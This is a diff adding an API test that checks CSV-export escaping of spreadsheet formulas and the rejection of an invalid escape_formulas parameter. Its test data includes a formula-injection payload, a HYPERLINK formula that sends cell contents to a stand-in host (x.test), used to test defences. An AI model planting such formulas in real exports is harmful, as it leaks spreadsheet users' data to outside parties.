@@ -218,6 +218,47 @@ exports(
 );
 
 exports(
+  'escape_formulas=true writes a CSV for a spreadsheet; it is refused for other formats and values',
+  async ({ app, admin }) => {
+    const labels = ['=HYPERLINK("http://x.test?"&A1)', '@SUM(1)', '-5', 'plain'];
+    await app.request('PATCH', '/items/parcels', {
+      token: admin,
+      body: labels.map((label, index) => ({ id: index + 1, label })),
+    });
+    const csv = async (query: string) => {
+      const response = await fetch(`${app.url}/items/parcels?export=csv&fields=label&limit=4&${query}`, {
+        headers: { Authorization: `Bearer ${admin}` },
+      });
+      const text = await response.text();
+      assert.is(response.status, 200, text);
+      return text;
+    };
+    assert.is(
+      await csv('escape_formulas=true'),
+      `label\r\n"'=HYPERLINK(""http://x.test?""&A1)"\r\n'@SUM(1)\r\n-5\r\nplain\r\n`,
+    );
+    // By default (and with false) every text is written as it is, so that the file imports back exactly.
+    const plain = `label\r\n"=HYPERLINK(""http://x.test?""&A1)"\r\n@SUM(1)\r\n-5\r\nplain\r\n`;
+    assert.is(await csv(''), plain);
+    assert.is(await csv('escape_formulas=false'), plain);
+    for (const query of [
+      'export=json&escape_formulas=true',
+      'export=ndjson&escape_formulas=false',
+      'export=csv&escape_formulas=1',
+      'export=csv&escape_formulas=true&escape_formulas=true',
+      'export=csv&escape_formulas[]=true',
+    ]) {
+      assertError(
+        await app.request('GET', `/items/parcels?${query}`, { token: admin }),
+        400,
+        'INVALID_QUERY',
+        'escape_formulas',
+      );
+    }
+  },
+);
+
+exports(
   'one export per caller at a time: the next is 429 until the first ends',
   async ({ app, store, admin, other }) => {
     store.holdAt = 2;
